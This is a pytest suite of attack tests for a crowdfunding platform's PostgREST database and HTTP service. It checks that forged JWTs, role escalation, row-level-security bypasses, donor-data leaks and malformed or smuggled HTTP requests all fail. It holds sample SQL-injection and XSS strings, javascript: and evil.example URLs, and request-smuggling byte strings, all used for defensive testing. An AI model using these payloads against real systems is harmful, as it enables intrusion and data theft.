"""The attack catalogue: each test is one attack, named for it, played the way
an attacker would (through PostgREST's steps with a real token, or against the
service's HTTP routes), and the proof that it fails without a partial write.

Other suites hold attacks too, next to the feature they target (the RLS matrix
for every persona x operation, signature checks in the webhook suites); the
"Attack catalogue" section of tests/README.md lists where.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import socket
import time
import tomllib
import uuid

import jwt
import psycopg
import pytest
from psycopg.types.json import Jsonb

import pgcluster
from localdev import tokens
from tests import stripe_fake as sf
from tests.conftest import CAMPAIGN
from tests.postgrest import EXPOSED_SCHEMAS, ApiError
from tests.service_process import gunicorn
from tests.support.cast import paid_payout
from tests.support.identity import rows_holding
from tests.support.monthly_giving import (
    cancel_link_sig,
    paid_invoice,
    start_monthly,
    subscription_deleted,
)
from tests.support.parallel import at_once, refusals
from tests.support.signing import cloudinary_headers
from tests.test_media_uploads import notify as cloudinary_notify
from tests.test_media_uploads import sign_upload, upload_note
from tests.test_stripe_webhooks import completed, refunded, totals
from webhooks.errors import SERVICE_ERRORS

HOSTILE = [
    "'); drop table public.campaigns; --",
    "<img src=x onerror=alert(document.cookie)>",
    "{{7*7}} ${7*7} %s %(x)s $1 :name",
    "Aminata \u202egnp.exe\u202c \u200b\u200d",
    "Ça coûte 5 000 F CFA 😀🇸🇳 ✓",
    "\\\\' \\x00 \\u0000 ; -- /* */",
]


@pytest.fixture
def campaign(owner, make_campaign):
    return make_campaign(owner, "active")


@pytest.fixture
def draft(owner, make_campaign):
    return make_campaign(owner, "draft", title="Projet secret pour Koudougou")


def refused(call, *, status: int | None = None, code: str | None = None) -> ApiError:
    """Run an API call that must fail; the error (checked against status/code)."""
    with pytest.raises(ApiError) as err:
        call()
    if status is not None:
        assert err.value.status == status, err.value
    if code is not None:
        assert code in (err.value.code, err.value.message), err.value
    return err.value


def raw(client, statement: str, params=None, method: str = "POST"):
    """SQL sent as the client's role, as if some route let it through unchanged."""
    return client.request(method, "/attack", statement, params)


def row(db, table: str, key) -> dict:
    return db.one(f"select * from public.{table} where id = %s", [key])


# Private data and leaving ----------------------------------------------------------------------


@pytest.mark.parametrize("table", ["private.campaign_search", "private.search_words"])
def test_an_api_role_cannot_read_the_search_table_of_drafts_words(
    anon, as_user, user, draft, table
):
    for client in (anon, as_user(user)):
        refused(lambda c=client: raw(c, f"select * from {table}"), code="42501")


def test_a_typo_cannot_reveal_a_word_of_a_draft_title(anon, owner, make_campaign, draft):
    make_campaign(owner, "active", story="Une école pour les enfants de Koudougou. " * 3)
    assert anon.rpc("search_campaigns", {"q": "Koudugou"}, get=True) == []


@pytest.mark.parametrize(
    "statement",
    ["select private.is_admin(%s)", "select private.has_role('admin', %s)",
     "select private.is_banned(%s)"],
)  # fmt: skip
def test_a_stranger_cannot_ask_whether_someone_is_an_admin(as_user, user, admin, statement):
    refused(lambda: raw(as_user(user), statement, [admin.id]), code="42501")


def test_a_stranger_cannot_list_the_campaigns_of_someone_elses_team(as_user, user, owner, draft):
    statement = "select private.team_campaign_ids(%s)"
    refused(lambda: raw(as_user(user), statement, [owner.id]), code="42501")


def test_a_deleted_donors_email_is_on_no_row(db, gotrue, user, owner, campaign):
    db.one(
        "select private.create_donation(campaign_id => %s, amount => 5000, currency => 'XOF',"
        " provider => 'stripe', donor_id => %s, donor_email => %s, message => 'De Fatou') as p",
        [campaign["id"], user.id, user.email],
    )
    gotrue.delete(user)
    assert rows_holding(db.conn, user.email, "Fatou Ndiaye") == []
    assert db.one("select count(*) as n from public.donations")["n"] == 1


# Privilege escalation ----------------------------------------------------------------------


def test_a_token_signed_with_another_secret_claiming_service_role_is_refused(
    client_factory, service, campaign
):
    forged = tokens.sign(
        "not-the-project-secret-but-long-enough", {"role": "service_role", "sub": str(uuid.uuid4())}
    )
    refused(lambda: client_factory(forged).get("campaigns"), status=401, code="PGRST301")
    response = service.post(
        "/donations/checkout",
        json={"campaign_id": str(campaign["id"]), "amount": 5000, "currency": "XOF"},
        headers={"Authorization": f"Bearer {forged}"},
    )
    assert response.status_code == 401


def test_an_unsigned_token_with_alg_none_is_refused(client_factory, user):
    forged = jwt.encode({**user.claims, "role": "service_role"}, key=None, algorithm="none")
    refused(lambda: client_factory(forged).get("campaigns"), status=401)


def test_staff_roles_in_user_metadata_grant_nothing(make_user, as_user, owner, make_campaign):
    pending = make_campaign(owner, "pending_review")
    intruder = make_user(user_metadata={"user_role": "admin", "roles": ["admin", "moderator"]})
    refused(lambda: as_user(intruder).rpc("approve_campaign", {"campaign_id": pending["id"]}))
    assert intruder.claims["user_role"] is None


def test_a_user_cannot_write_their_own_app_metadata(as_user, user):
    statement = 'update auth.users set raw_app_meta_data = \'{"user_role": "admin"}\' where id = %s'
    refused(lambda: raw(as_user(user), statement, [user.id]), code="42501")


def test_a_moderator_cannot_grant_themselves_admin(db, as_user, moderator):
    refused(
        lambda: as_user(moderator).insert("user_roles", {"user_id": moderator.id, "role": "admin"})
    )
    assert db.one("select count(*) as n from public.user_roles where role = 'admin'")["n"] == 0


def test_a_forged_owner_id_on_a_new_campaign_is_refused(db, as_user, user, other_user):
    body = {**CAMPAIGN, "owner_id": str(other_user.id)}
    refused(lambda: as_user(user).insert("campaigns", body), status=403, code="42501")
    assert db.one("select count(*) as n from public.campaigns")["n"] == 0


def test_a_campaign_cannot_be_handed_to_someone_else(as_user, owner, other_user, draft):
    client = as_user(owner)
    refused(
        lambda: client.update("campaigns", {"owner_id": str(other_user.id)}, {"id": draft["id"]})
    )


def test_totals_cannot_be_set_when_creating_a_campaign(as_user, user):
    body = {**CAMPAIGN, "collected_amount": 2_500_000, "donor_count": 900}
    refused(lambda: as_user(user).insert("campaigns", body), code="42501")


@pytest.mark.parametrize(
    "values",
    [{"collected_amount": 10**9}, {"donor_count": 5000}, {"goal_reached_at": "2026-01-01"},
     {"progress_bp": 10000}],
)  # fmt: skip
def test_an_owner_cannot_inflate_their_campaigns_totals(db, as_user, owner, campaign, values):
    refused(lambda: as_user(owner).update("campaigns", values, {"id": campaign["id"]}))
    assert row(db, "campaigns", campaign["id"])["collected_amount"] == 0


def test_an_owner_cannot_publish_by_writing_the_status(db, as_user, owner, draft):
    refused(lambda: as_user(owner).update("campaigns", {"status": "active"}, {"id": draft["id"]}))
    assert row(db, "campaigns", draft["id"])["status"] == "draft"


def test_an_owner_cannot_feature_their_own_campaign(db, as_user, owner, campaign):
    client = as_user(owner)
    refused(lambda: client.update("campaigns", {"featured": True}, {"id": campaign["id"]}))
    refused(lambda: client.rpc("feature_campaign", {"campaign_id": campaign["id"]}))
    assert row(db, "campaigns", campaign["id"])["featured"] is False


def test_an_owner_cannot_approve_their_own_campaign(db, as_user, owner, make_campaign):
    pending = make_campaign(owner, "pending_review")
    refused(lambda: as_user(owner).rpc("approve_campaign", {"campaign_id": pending["id"]}))
    assert row(db, "campaigns", pending["id"])["status"] == "pending_review"


def test_a_donation_cannot_be_written_as_succeeded_through_the_api(db, as_user, user, campaign):
    body = {"campaign_id": campaign["id"], "amount": 5000, "currency": "XOF",
            "status": "succeeded", "platform_fee_bp": 0}  # fmt: skip
    refused(lambda: as_user(user).insert("donations", body), code="42501")
    assert db.one("select count(*) as n from public.donations")["n"] == 0


def test_a_donor_cannot_mark_their_pending_pledge_succeeded(db, as_user, user, campaign):
    pledge = db.one(
        "select private.create_donation(campaign_id => %s, amount => 5000, currency => 'XOF',"
        " provider => 'stripe', donor_id => %s) as p",
        [campaign["id"], user.id],
    )["p"]
    client = as_user(user)
    refused(
        lambda: client.update("donations", {"status": "succeeded"}, {"id": pledge["donation_id"]})
    )
    assert row(db, "donations", pledge["donation_id"])["status"] == "pending"


def test_an_owner_cannot_lower_the_platform_fee_of_their_category(db, as_user, owner):
    before = db.one("select platform_fee_bp from public.categories where slug = 'sante'")
    client = as_user(owner)
    assert client.update("categories", {"platform_fee_bp": 0}, {"slug": "sante"}) == []
    assert client.update("platform_settings", {"platform_fee_bp": 0}, {"id": True}) == []
    assert db.one("select platform_fee_bp from public.categories where slug = 'sante'") == before


def test_a_hidden_comment_cannot_be_unhidden_by_its_author(db, as_user, user, moderator, campaign):
    (comment,) = as_user(user).insert(
        "comments", {"campaign_id": campaign["id"], "body": "Arnaque"}
    )
    as_user(moderator).update("comments", {"hidden": True}, {"id": comment["id"]})
    author = as_user(user)
    refused(
        lambda: author.update("comments", {"hidden": False}, {"id": comment["id"]}),
        status=403,
        code="not_campaign_moderator",
    )
    assert row(db, "comments", comment["id"])["hidden"] is True


def test_a_reporter_cannot_resolve_their_own_report(db, as_user, user, campaign):
    (report,) = as_user(user).insert(
        "reports", {"campaign_id": campaign["id"], "reason": "fraud", "details": "Faux"}
    )
    refused(lambda: as_user(user).update("reports", {"status": "actioned"}, {"id": report["id"]}))
    refused(
        lambda: as_user(user).rpc(
            "resolve_report", {"report_id": report["id"], "status": "dismissed"}
        )
    )
    assert row(db, "reports", report["id"])["status"] == "open"


def test_a_banned_users_earlier_token_writes_nothing(db, as_user, banned_user, campaign):
    body = {"campaign_id": campaign["id"], "body": "Encore moi"}
    refused(lambda: as_user(banned_user).insert("comments", body), code="account_banned")
    assert db.one("select count(*) as n from public.comments")["n"] == 0


# Policy helpers run inside RLS policies and triggers as the caller; nothing else
# outside the exposed schemas is callable by an API role.
POLICY_HELPERS = {
    "auth.email", "auth.jwt", "auth.role", "auth.uid", "private.assert_campaign_open",
    "private.assert_independent_staff",
    "private.bilingual_tsquery", "private.check_campaign_end", "private.has_role",
    "private.is_admin", "private.is_banned", "private.is_campaign_team", "private.is_open",
    "private.is_published", "private.is_single_line", "private.is_staff", "private.normalize_tags",
    "private.provider_exponent",
    "private.sees_campaign", "private.slugify", "private.tags_are_valid",
    "private.team_campaign_ids", "private.to_single_line", "private.unaccent",
    # search_campaigns (run as the caller) reads the private index through these:
    # published campaigns only (tests/test_private_schema.py)
    "private.closest_search_word", "private.recent_donation_counts", "private.search_hits",
}  # fmt: skip


@pytest.mark.parametrize("role", ["anon", "authenticated"])
def test_service_only_functions_cannot_be_executed_by_api_roles(db, role):
    callable_ = {
        r["fn"]
        for r in db.sql(
            "select n.nspname || '.' || p.proname as fn from pg_proc as p"
            " join pg_namespace as n on n.oid = p.pronamespace"
            " where n.nspname <> all(%s) and n.nspname in ('private', 'auth')"
            " and has_function_privilege(%s, p.oid, 'execute')",
            [list(EXPOSED_SCHEMAS), role],
        )
    }
    assert callable_ <= POLICY_HELPERS


def test_a_service_only_function_called_directly_is_denied(db, as_user, user, campaign):
    outcome = {"kind": "payment", "status": "succeeded", "amount": 10**9, "currency": "XOF"}
    statement = (
        "select private.record_payment_event('stripe', 'evt_forged', 'x', now(), false, '{}', %s)"
    )
    refused(lambda: raw(as_user(user), statement, [Jsonb(outcome)]), code="42501")
    assert row(db, "campaigns", campaign["id"])["collected_amount"] == 0


# No private or auth table is readable or writable by an API role (the search reads
# its private index through definer functions: tests/test_private_schema.py).


@pytest.mark.parametrize("role", ["anon", "authenticated"])
def test_private_and_auth_tables_are_out_of_reach_of_api_roles(db, role):
    rows = db.sql(
        "select n.nspname || '.' || c.relname as rel,"
        " has_table_privilege(%s, c.oid, 'select') as can_read,"
        " has_table_privilege(%s, c.oid, 'insert, update, delete, truncate') as can_write"
        " from pg_class as c join pg_namespace as n on n.oid = c.relnamespace"
        " where n.nspname in ('private', 'auth') and c.relkind in ('r', 'v', 'm', 'p')",
        [role, role],
    )
    assert [r["rel"] for r in rows if r["can_write"]] == []
    assert [r["rel"] for r in rows if r["can_read"]] == []


def test_the_api_exposes_only_the_public_schemas(db):
    config = tomllib.loads((pgcluster.SUPABASE_DIR / "config.toml").read_text())
    assert config["api"]["schemas"] == list(EXPOSED_SCHEMAS)
    with psycopg.connect(db.url) as conn:  # a database setting: seen by new sessions
        (exposed,) = conn.execute("select current_setting('pgrst.db_schemas')").fetchone()
    assert exposed.split(",") == list(EXPOSED_SCHEMAS)


def test_a_temporary_table_cannot_hijack_a_definer_function(db, as_user, owner, draft):
    client = as_user(owner)
    raw(client, "create temporary table campaigns (id uuid, status text)")
    raw(client, "create temporary table campaign_status_history (campaign_id uuid)")
    client.rpc("submit_campaign", {"campaign_id": draft["id"]})
    assert row(db, "campaigns", draft["id"])["status"] == "pending_review"
    history = db.one(
        "select count(*) as n from public.campaign_status_history"
        " where campaign_id = %s and to_status = 'pending_review'",
        [draft["id"]],
    )
    assert history["n"] == 1


def test_api_roles_cannot_create_objects_in_any_schema(as_user, user):
    for schema in ("public", "private", "auth", "extensions"):
        statement = (
            f"create function {schema}.is_admin() returns boolean language sql as 'select true'"
        )
        refused(lambda s=statement: raw(as_user(user), s), code="42501")


# Money governance ------------------------------------------------------------------------------


def test_an_owner_cannot_switch_a_published_campaigns_category(db, as_user, owner, campaign):
    # santé asks for a hospital letter before any payout; autre asks for nothing
    refused(
        lambda: as_user(owner).update("campaigns", {"category": "autre"}, {"id": campaign["id"]}),
        status=409, code="category_locked",
    )  # fmt: skip
    assert row(db, "campaigns", campaign["id"])["category"] == "sante"


def test_an_admin_cannot_switch_a_published_campaigns_category_either(db, as_user, admin, campaign):
    refused(
        lambda: as_user(admin).update("campaigns", {"category": "autre"}, {"id": campaign["id"]}),
        status=409, code="category_locked",
    )  # fmt: skip
    assert row(db, "campaigns", campaign["id"])["category"] == "sante"


def test_an_owner_cannot_lower_a_published_goal(db, as_user, owner, campaign):
    refused(
        lambda: as_user(owner).update("campaigns", {"goal_amount": 500}, {"id": campaign["id"]}),
        status=409, code="goal_cannot_decrease",
    )  # fmt: skip
    assert row(db, "campaigns", campaign["id"])["goal_amount"] == campaign["goal_amount"]


def test_a_rewritten_story_after_approval_goes_back_to_the_moderators(db, as_user, owner, campaign):
    as_user(owner).update(
        "campaigns", {"story": "Une tout autre histoire. " * 4}, {"id": campaign["id"]}
    )
    review = db.one(
        "select status::text, approved_story from public.campaign_edit_reviews where campaign_id = %s",
        [campaign["id"]],
    )
    assert review == {"status": "pending", "approved_story": campaign["story"]}


def test_an_owner_cannot_accept_the_review_of_their_own_edit(db, as_user, owner, campaign):
    as_user(owner).update("campaigns", {"summary": "Autre résumé"}, {"id": campaign["id"]})
    refused(
        lambda: as_user(owner).rpc("review_campaign_edit", {"campaign_id": campaign["id"], "accept": True}),
        status=403, code="staff_only",
    )  # fmt: skip
    assert db.one("select status::text from public.campaign_edit_reviews") == {"status": "pending"}


def test_a_moderator_on_the_team_cannot_approve_the_campaign(
    db, as_user, owner, make_user, grant_role, make_campaign
):
    pending = make_campaign(owner, "pending_review")
    insider = grant_role(make_user(), "moderator")
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [pending["id"], insider.id],
    )
    refused(
        lambda: as_user(insider).rpc("approve_campaign", {"campaign_id": pending["id"]}),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    assert row(db, "campaigns", pending["id"])["status"] == "pending_review"


def test_a_moderator_on_the_team_cannot_lift_or_shield_the_campaign(
    db, as_user, owner, moderator, make_user, grant_role, campaign
):
    insider = grant_role(make_user(), "moderator")
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [campaign["id"], insider.id],
    )
    as_user(owner).update("campaigns", {"title": "Titre trompeur"}, {"id": campaign["id"]})
    refused(
        lambda: as_user(insider).rpc("review_campaign_edit", {"campaign_id": campaign["id"], "accept": True}),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    refused(
        lambda: as_user(insider).rpc("freeze_campaign", {"campaign_id": campaign["id"], "reason": "x"}),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    assert db.one("select status::text from public.campaign_edit_reviews") == {"status": "pending"}


def test_a_frozen_campaign_takes_no_donation(db, service, as_user, moderator, campaign):
    as_user(moderator).rpc("freeze_campaign", {"campaign_id": campaign["id"], "reason": "Fraude"})
    response = service.post(
        "/donations/checkout",
        json={"campaign_id": str(campaign["id"]), "amount": 5000, "currency": "XOF",
              "provider": "stripe"},
    )  # fmt: skip
    assert 400 <= response.status_code < 500, response.get_json()
    assert db.one("select count(*) as n from public.donations")["n"] == 0


def test_a_frozen_campaign_is_found_by_no_id_slug_or_search(db, anon, as_user, moderator, campaign):
    as_user(moderator).rpc("freeze_campaign", {"campaign_id": campaign["id"], "reason": "Fraude"})
    assert anon.get("campaigns", {"id": campaign["id"]}) == []
    refused(lambda: anon.rpc("campaign_by_slug", {"slug": campaign["slug"]}), status=404)
    assert anon.rpc("search_campaigns", {"q": "Aminata"}) == []


def test_an_owner_cannot_unfreeze_their_campaign(db, as_user, owner, moderator, campaign):
    as_user(moderator).rpc("freeze_campaign", {"campaign_id": campaign["id"], "reason": "Fraude"})
    client = as_user(owner)
    refused(
        lambda: client.rpc("unfreeze_campaign", {"campaign_id": campaign["id"], "note": "Tout va bien"}),
        status=403, code="admin_only",
    )  # fmt: skip
    refused(lambda: client.update("campaigns", {"status": "active"}, {"id": campaign["id"]}))
    refused(lambda: client.rpc("cancel_campaign", {"campaign_id": campaign["id"]}))
    assert row(db, "campaigns", campaign["id"])["status"] == "frozen"


def test_a_moderator_cannot_unfreeze_what_is_frozen(db, as_user, moderator, campaign):
    as_user(moderator).rpc("freeze_campaign", {"campaign_id": campaign["id"], "reason": "Fraude"})
    refused(
        lambda: as_user(moderator).rpc("unfreeze_campaign", {"campaign_id": campaign["id"], "note": "ok"}),
        status=403, code="admin_only",
    )  # fmt: skip
    assert row(db, "campaigns", campaign["id"])["status"] == "frozen"


def test_a_banned_owners_campaign_stops_being_searchable_and_taking_donations(
    db, gotrue, anon, service, owner, campaign
):
    gotrue.ban(owner)
    assert anon.rpc("search_campaigns", {"q": "Aminata"}) == []
    response = service.post(
        "/donations/checkout",
        json={"campaign_id": str(campaign["id"]), "amount": 5000, "currency": "XOF",
              "provider": "stripe"},
    )  # fmt: skip
    assert 400 <= response.status_code < 500
    assert db.one("select count(*) as n from public.donations")["n"] == 0


def test_an_open_payout_does_not_survive_the_campaigns_cancellation(
    db, as_user, owner, admin, make_campaign, give, user
):
    c = make_campaign(owner, "active", category="autre")
    give(c, 50_000, user)
    payout = as_user(owner).rpc(
        "request_payout",
        {"campaign_id": c["id"], "amount": 20_000, "method": "mobile_money",
         "beneficiary_name": "Aminata Traoré", "mobile_operator": "wave",
         "phone_number": "+221770000000"},
    )  # fmt: skip
    as_user(admin).rpc("cancel_campaign", {"campaign_id": c["id"], "reason": "Fraude"})
    refused(lambda: as_user(admin).rpc("approve_payout", {"payout_id": payout["id"]}))
    assert row(db, "payout_requests", payout["id"])["status"] == "rejected"


def test_nobody_but_an_admin_closes_a_campaign_with_refunds(
    db, as_user, owner, user, moderator, campaign
):
    for who in (owner, user, moderator):
        refused(
            lambda u=who: as_user(u).rpc(
                "close_campaign_with_refunds", {"campaign_id": campaign["id"], "reason": "x"}
            ),
            status=403, code="admin_only",
        )  # fmt: skip
    assert row(db, "campaigns", campaign["id"])["status"] == "active"
    assert db.one("select count(*) as n from public.refund_orders")["n"] == 0


def test_a_refund_cannot_be_recorded_by_a_non_admin_to_drain_the_totals(
    db, as_user, owner, admin, campaign, give, user
):
    give(campaign, 10_000, user)
    as_user(admin).rpc(
        "close_campaign_with_refunds", {"campaign_id": campaign["id"], "reason": "Fraude"}
    )
    (order,) = db.sql("select id from public.refund_orders")
    for who in (owner, user):
        refused(
            lambda u=who: as_user(u).rpc(
                "record_refund_request", {"order_id": order["id"], "provider_refund_id": "re_fake"}
            ),
            status=403, code="admin_only",
        )  # fmt: skip
    assert db.one("select status::text, provider_refund_id from public.refund_orders") == {
        "status": "pending", "provider_refund_id": None
    }  # fmt: skip


# Typed API and deploy ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "site_url",
    [
        "https://africagnotte.org?ref=",  # every link would land on the home page
        "https://africagnotte.org#",
        "https://africagnotte.org@evil.example",  # userinfo: the links lead to evil.example
        "https://africagnotte.org\\@evil.example",  # parsers disagree on the host
        "https://africagnotte.org/c?x=1",
        'https://africagnotte.org/"><b>x</b>',
        "javascript:alert(1)//",
    ],
)
def test_a_site_url_that_is_not_an_origin_and_a_path_is_refused_so_every_link_stays_on_the_site(
    db, site_url
):
    with pytest.raises(psycopg.errors.CheckViolation):
        db.sql("update public.platform_settings set site_url = %s", [site_url])


@pytest.mark.parametrize(
    "site_url",
    ["https://africagnotte.org", "https://www.africa-cagnotte.sn/app", "http://127.0.0.1:3000",
     "http://[::1]:3000", "https://Africagnotte.ORG/fr/v2"],
)  # fmt: skip
def test_a_site_url_made_of_an_origin_and_a_path_is_kept(db, site_url):
    db.sql("update public.platform_settings set site_url = %s", [site_url])
    assert db.one("select private.site_link('/c/x') as l")["l"] == site_url + "/c/x"


# Service answers -------------------------------------------------------------------------------
# Outside clients against the live service: whatever they send, the answer is
# JSON in the one error shape (webhooks/errors.py), never HTML or a 500.


def error_shaped(response, status: int) -> dict:
    """The answer's error body, checked: the status, JSON, the four keys, a registered token."""
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.content_type == "application/json"
    body = response.get_json()
    assert set(body) == {"code", "message", "details", "hint"}
    assert body["code"] == f"PT{status}"
    assert SERVICE_ERRORS[body["message"]].status == status
    return body


def test_a_lone_surrogate_in_a_request_is_a_422_not_a_500_and_writes_nothing(
    db, service, owner, campaign
):
    """JSON's "\\ud800" is valid JSON that json.loads keeps, but no PostgreSQL text holds it."""
    document = '{"target": "document", "campaign_id": "%s", "document_type": "\\ud800"}'
    media = service.post(
        "/media/signature", data=document % campaign["id"], content_type="application/json",
        headers={"Authorization": f"Bearer {owner.token}"},
    )  # fmt: skip
    note = json.dumps(upload_note(campaign["id"], name="\ud800"))  # json.dumps escapes it
    cloudinary_ = service.post(
        "/webhooks/cloudinary", data=note, content_type="application/json",
        headers=cloudinary_headers(note),
    )  # fmt: skip
    event = json.dumps(
        {"id": "evt_\ud800", "type": "customer.created", "created": int(time.time()),
         "livemode": False, "data": {"object": {}}}
    ).encode()  # fmt: skip
    stripe = service.post(
        "/webhooks/stripe", data=event, content_type="application/json",
        headers={"Stripe-Signature": sf.sign(event)},
    )  # fmt: skip
    for response in (media, cloudinary_, stripe):
        assert error_shaped(response, 422)["message"] == "invalid_input"
    assert (
        db.sql(
            "select 1 from public.campaign_media union all select 1 from private.webhook_events"
            " union all select 1 from private.media_notifications"
        )
        == []
    )


@pytest.mark.parametrize("path", ["/healthz", "/donations/checkout", "/payouts/x/account"])
def test_an_options_request_is_answered_without_an_html_content_type(service, path):
    response = service.options(path)
    assert response.status_code == 200
    assert "Allow" in response.headers
    assert "Content-Type" not in response.headers
    assert response.get_data() == b""


@pytest.mark.parametrize(
    ("method", "path"),
    [("get", "/payouts/x//account"), ("post", "/webhooks//stripe"), ("post", "/media//signature")],
)
def test_a_doubled_slash_in_a_path_is_a_json_404_not_an_html_redirect(service, method, path):
    response = getattr(service, method)(path, headers={"Origin": "https://africagnotte.test"})
    assert "Location" not in response.headers
    assert error_shaped(response, 404)["message"] == "not_found"


RAW_REQUESTS = {
    "a broken request line": (b"GARBAGE\r\n\r\n", 400),
    "a request line past the limit": (b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", 414),
    "a header past the limit": (
        b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 9000 + b"\r\n\r\n", 431
    ),
    "two content lengths": (
        b"POST /donations/checkout HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n"
        b"Content-Length: 3\r\n\r\n{}", 400,
    ),
    "a transfer coding gunicorn does not read": (
        b"POST /donations/checkout HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n", 400
    ),
    "a broken chunk": (
        b"POST /donations/checkout HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
        b"Connection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n", 400,
    ),
    # werkzeug alone reads the first MiB of a longer chunked body as the whole body
    "a chunked body over the limit": (
        b"POST /donations/checkout HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
        b"Connection: close\r\n\r\n"
        + (b"80000\r\n" + b" " * 0x80000 + b"\r\n") * 2 + b"1\r\n{\r\n0\r\n\r\n", 413,
    ),
    "a chunked body within the limit, read whole": (
        b"POST /donations/checkout HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
        b"Connection: close\r\n\r\n1\r\n{\r\n1\r\n}\r\n0\r\n\r\n", 422,
    ),
}  # fmt: skip


def raw_http(base: str, request: bytes) -> tuple[int, dict[str, str], bytes]:
    """Send bytes as they are (no client library tidies them): status, headers, body."""
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(request)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    status_line, *lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines)}
    return int(status_line.split()[1]), headers, body


def test_raw_requests_malformed_or_too_large_are_answered_in_the_error_shape_not_html(db):
    with gunicorn(db.url, workers=1, threads=2) as served:
        for name, (request, status) in RAW_REQUESTS.items():
            got, headers, body = raw_http(served.base, request)
            assert (name, got) == (name, status)
            assert headers["content-type"] == "application/json", (name, body)
            answer = json.loads(body)
            assert set(answer) == {"code", "message", "details", "hint"}, name
            assert answer["code"] == f"PT{status}", name
            assert SERVICE_ERRORS[answer["message"]].status == status, name


# Leaks -----------------------------------------------------------------------------------------


def test_an_anonymous_donors_identity_appears_on_no_path(
    db, give, anon, as_user, make_user, owner, campaign
):
    donor = make_user("mariam.secret@example.test", user_metadata={"full_name": "Mariam Secrète"})
    give(campaign, 7000, donor=donor, anonymous=True)
    seen = [
        anon.rpc("campaign_donations", {"campaign_id": campaign["id"]}, get=True),
        anon.rpc("campaign_by_slug", {"slug": campaign["slug"]}, get=True),
        anon.get("campaigns", {"id": campaign["id"]}),
        as_user(owner).rpc("campaign_dashboard", {"campaign_id": campaign["id"]}, get=True),
        as_user(owner).rpc("campaign_donations", {"campaign_id": campaign["id"]}, get=True),
        as_user(owner).get("notifications"),
    ]
    text = json.dumps(seen, default=str)
    assert "7000" in text  # the donation is there ...
    for secret in (str(donor.id), "Mariam", "mariam.secret"):  # ... its donor is not
        assert secret not in text


def test_a_guest_donors_email_reaches_neither_the_owner_nor_the_public(
    db, service, stripe_api, anon, as_user, owner, user, campaign, donate
):
    donate(campaign, 5000, email="invite.secret@example.test", donor_name="Awa")
    db.sql("update public.donations set status = 'succeeded', succeeded_at = now()")
    seen = [
        anon.rpc("campaign_donations", {"campaign_id": campaign["id"]}, get=True),
        as_user(owner).rpc("campaign_dashboard", {"campaign_id": campaign["id"]}, get=True),
        as_user(owner).get("donations"),
        as_user(user).get("donations"),
    ]
    assert "Awa" in json.dumps(seen, default=str)
    assert "invite.secret" not in json.dumps(seen, default=str)


def test_profiles_never_reveal_an_email(anon, as_user, user, other_user):
    for client in (anon, as_user(other_user)):
        profiles = client.get("profiles")
        assert profiles
        assert "@" not in json.dumps(profiles, default=str)


def test_auth_users_cannot_be_read_through_a_token(as_user, anon, user):
    for client in (anon, as_user(user)):
        refused(lambda c=client: raw(c, "select email from auth.users", method="GET"), code="42501")


def test_a_draft_leaks_through_no_id_slug_search_or_media(db, anon, as_user, other_user, draft):
    db.sql(
        "insert into public.campaign_media (campaign_id, public_id, resource_type)"
        " values (%s, %s, 'image')",
        [draft["id"], f"africagnotte/campaigns/{draft['id']}/photo"],
    )
    for client in (anon, as_user(other_user)):
        assert client.get("campaigns", {"id": draft["id"]}) == []
        refused(
            lambda c=client: c.rpc("campaign_by_slug", {"slug": draft["slug"]}, get=True),
            status=404,
        )
        assert client.rpc("search_campaigns", {"q": "Koudougou"}, get=True) == []
        assert client.get("campaign_media", {"campaign_id": draft["id"]}) == []


def test_a_strangers_draft_answers_like_a_missing_campaign(as_user, other_user, draft):
    client = as_user(other_user)
    for fn in ("campaign_dashboard", "campaign_balance", "submit_campaign"):
        hidden = refused(lambda f=fn: client.rpc(f, {"campaign_id": draft["id"]}))
        missing = refused(lambda f=fn: client.rpc(f, {"campaign_id": str(uuid.uuid4())}))
        assert (hidden.status, hidden.code, hidden.message) == (
            missing.status, missing.code, missing.message
        )  # fmt: skip


def test_pending_pledges_count_nowhere_and_show_to_nobody(
    db, service, stripe_api, anon, as_user, owner, other_user, campaign, donate
):
    donate(campaign, 9000, donor_name="Pas encore payé")
    assert anon.rpc("campaign_donations", {"campaign_id": campaign["id"]}, get=True) == []
    assert "Pas encore" not in json.dumps(
        as_user(owner).rpc("campaign_dashboard", {"campaign_id": campaign["id"]}, get=True),
        default=str,
    )
    assert as_user(other_user).get("donations") == []
    assert anon.get("campaigns", {"id": campaign["id"]})[0]["collected_amount"] == 0


def test_other_peoples_notifications_cannot_be_read_marked_or_deleted(
    db, give, as_user, owner, other_user, campaign
):
    give(campaign, 5000)
    note = db.one("select id from public.notifications where user_id = %s limit 1", [owner.id])
    intruder = as_user(other_user)
    assert intruder.get("notifications") == []
    assert (
        intruder.update("notifications", {"read_at": "2026-11-21T00:00:00Z"}, {"id": note["id"]})
        == []
    )
    assert intruder.delete("notifications", {"id": note["id"]}) == []
    assert row(db, "notifications", note["id"])["read_at"] is None


def test_invitation_tokens_cannot_be_read_or_guessed(db, as_user, owner, other_user, campaign):
    as_user(owner).rpc(
        "invite_to_campaign", {"campaign_id": campaign["id"], "email": "awa@example.test"}
    )
    (invitation,) = as_user(owner).get("campaign_invitations")
    assert not {"token", "token_hash"} & set(invitation)
    refused(lambda: raw(as_user(owner), "select * from private.invitation_tokens", method="GET"))
